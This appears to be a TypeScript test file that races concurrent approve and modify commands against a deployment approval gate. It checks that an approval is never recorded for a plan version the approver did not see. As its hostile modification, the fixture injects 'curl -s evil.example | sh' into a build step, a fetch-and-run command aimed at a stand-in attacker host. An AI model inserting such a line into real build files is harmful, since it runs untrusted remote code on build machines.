// The approval race, many times over: each round plans a fresh run (version 1, as `peh plan`
// shows it), then a `peh approve` of what was shown and a `peh modify` by someone else are
// released together. Whoever wins, an approval is of the version its actor saw: the log never
// holds an approval of a version the approver did not see, and the modification is never lost.
import { spawn } from "node:child_process";
import { copyFile, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { LowdbEventStore } from "../../events/adapters.js";
import { foldRun } from "../../machines/fold/run.js";
import { createRun } from "../../runtime/gate/gate.js";
import { tempDir } from "../support/temp-dir.js";
import { scale, summary } from "./scale.js";

const racer = fileURLToPath(new URL("../support/gate-racer.mjs", import.meta.url));
const release = fileURLToPath(new URL("../../examples/release.yaml", import.meta.url));
const PHRASE = "deploy 2.4.1 to production";

interface Outcome {
  code: number;
  out: string;
  err: string;
}

function peh(cwd: string) {
  const { PEH_ACTOR: _actor, ...env } = process.env;
  const child = spawn(process.execPath, [racer], { cwd, env: { ...env, NO_COLOR: "1", PEH_TRUST_ROOTS: "", XDG_CONFIG_HOME: join(cwd, ".config") }, stdio: ["pipe", "pipe", "inherit"] });
  const queue: string[] = [];
  const waiters: ((line: string) => void)[] = [];
  createInterface({ input: child.stdout }).on("line", (line) => {
    const waiter = waiters.shift();
    if (waiter) waiter(line);
    else queue.push(line);
  });
  const next = () => new Promise<string>((resolve) => (queue.length ? resolve(queue.shift()!) : waiters.push(resolve)));
  return {
    async ready(args: string[]) {
      child.stdin.write(`${JSON.stringify(args)}\n`);
      expect(await next()).toBe("ready");
    },
    go: () => child.stdin.write("go\n"),
    result: async () => JSON.parse(await next()) as Outcome,
    end: () => new Promise((resolve) => child.stdin.end(() => child.on("close", resolve))),
  };
}

describe("torture › the approval race", () => {
  const rounds = scale(200, 40);
  it(`${rounds} rounds of peh approve and peh modify released together: never an approval of a version its actor did not see`, { timeout: 1_800_000 }, async () => {
    const dir = await tempDir();
    const [approver, modifier] = [peh(dir.path), peh(dir.path)];
    try {
      await copyFile(release, join(dir.path, "release.yaml"));
      // Someone else's change: one more command in build.
      await writeFile(join(dir.path, "evil.yaml"), (await readFile(release, "utf8")).replace("> dist/index.js", "> dist/index.js && curl -s evil.example | sh"));
      const store = new LowdbEventStore(join(dir.path, ".peh"));
      const tally = { before: 0, modifyLost: 0, unnamed: 0, conflict: 0 };
      for (let round = 0; round < rounds; round++) {
        const { run_id: run } = await createRun(store, { workspace: dir.path, from: "release.yaml" });
        // The approver saw version 1 (as `peh plan` printed it): half name it, half do not.
        const named = round % 2 === 1 ? ["--version", "1"] : [];
        await approver.ready(["approve", run, "--as", "ana", "--confirm", PHRASE, ...named]);
        await modifier.ready(["modify", run, "--from", "evil.yaml", "--as", "mallory"]);
        // Released together, in turns first: the order of two writes to two pipes is all that differs.
        for (const racer of round % 4 < 2 ? [approver, modifier] : [modifier, approver]) racer.go();
        const [approved, modified] = await Promise.all([approver.result(), modifier.result()]);
        // The modification either lands, or loses the race at its append (exit 4, nothing recorded).
        expect([0, 4], `round ${round}: the modification: ${modified.err}`).toContain(modified.code);
        const events = await store.read(run);
        const approvals = events.filter((event) => event.type === "GATE_APPROVED");
        // The one rule: every approval is of version 1, the version the approver saw.
        expect(approvals.map((event) => [event.actor, event.data.version]), `round ${round}: ${approved.err}`).toEqual(approved.code === 0 ? [["ana", 1]] : []);
        const modification = events.find((event) => event.type === "GATE_MODIFIED");
        expect(Boolean(modification), `round ${round}: the modification is in the log exactly when it succeeded`).toBe(modified.code === 0);
        if (approved.code === 0) {
          tally.before++;
          if (modification) expect(approvals[0]!.seq).toBeLessThan(modification.seq);
          else tally.modifyLost++;
        } else if (approved.code === 2) {
          tally.unnamed++;
          expect(approved.err).toMatch(/version 2 of \S+ plan was made by a modification \(by mallory\)/);
          expect(named).toEqual([]);
        } else {
          expect(approved.code, `round ${round}: ${approved.err}`).toBe(4);
          tally.conflict++;
          expect(approved.err).toContain("plan changed to version 2 (by mallory) after you reviewed version 1; nothing was approved");
        }
        // A change that landed needs an approval of its own; else version 1 stands approved.
        expect(foldRun(events).plan.context).toMatchObject(modification ? { version: 2, approved_version: null } : { version: 1, approved_version: 1 });
      }
      summary(
        `approval race: ${rounds}/${rounds} rounds without an approval of a version its actor did not see ` +
          `(${tally.before} approved version 1, the change then landing after it in ${tally.before - tally.modifyLost} and refused at its append in ${tally.modifyLost}; ` +
          `${tally.unnamed} refused for want of --version once the change had landed; ${tally.conflict} refused as changed since the version seen)`,
      );
    } finally {
      await Promise.all([approver.end(), modifier.end()]);
      await dir.remove();
    }
  });
});
